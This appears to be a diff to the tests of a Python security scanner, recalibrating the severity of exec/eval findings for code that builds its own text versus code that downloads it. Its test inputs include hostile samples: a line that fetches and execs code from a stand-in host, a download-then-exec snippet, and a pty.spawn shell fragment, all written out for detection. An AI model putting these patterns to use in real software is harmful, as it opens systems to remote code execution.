@@ -47,8 +47,9 @@ def _ids(findings: list[Finding]) -> list[tuple[str, int | None, Level]]:
             "exec(urllib.request.urlopen('https://x.example/p.py').read())\n",
             [("SKC-PY-002", 2, Level.CRITICAL)],
         ),
-        ("def run(some_var):\n    exec(some_var)\n", [("SKC-PY-001", 2, Level.HIGH)]),
-        ("value = eval(expression)\n", [("SKC-PY-001", 1, Level.HIGH)]),
+        # text of unknown origin in a file that fetches nothing: caution (fetched: high)
+        ("def run(some_var):\n    exec(some_var)\n", [("SKC-PY-001", 2, Level.MEDIUM)]),
+        ("value = eval(expression)\n", [("SKC-PY-001", 1, Level.MEDIUM)]),
         ("exec('print(1)')\n", []),
         ("mod = __import__(name_var)\n", [("SKC-PY-003", 1, Level.LOW)]),
         ("import importlib\nm = importlib.import_module(name)\n", [("SKC-PY-003", 2, Level.LOW)]),
@@ -336,3 +337,21 @@ def test_a_socket_and_a_terminal_that_are_never_joined(tmp_path: Path) -> None:
         "def shell():\n    pty.spawn('/bin/sh')\n"
     )
     assert "SKC-PY-010" not in {rule for rule, _, _ in _ids(_scan(tmp_path, code))}
+
+
+def test_exec_of_text_a_script_builds_itself_is_medium(tmp_path: Path) -> None:
+    code = (
+        "import yaml, sys\nschema = yaml.safe_load(open(sys.argv[1]))\n"
+        "src = '\\n'.join(f'class {n}: pass' for n in schema)\n"
+        "exec(compile(src, 'gen', 'exec'), {})\n"
+    )
+    assert ("SKC-PY-001", 4, Level.MEDIUM) in _ids(_scan(tmp_path, code))
+
+
+def test_exec_in_a_file_that_downloads_stays_high(tmp_path: Path) -> None:
+    code = (
+        "import urllib.request, pathlib\nlocal = pathlib.Path('/tmp/r.py')\n"
+        "local.write_bytes(urllib.request.urlopen(FEED).read())\n"
+        "exec(compile(local.read_text(), 'r', 'exec'), {})\n"
+    )
+    assert ("SKC-PY-001", 4, Level.HIGH) in _ids(_scan(tmp_path, code))
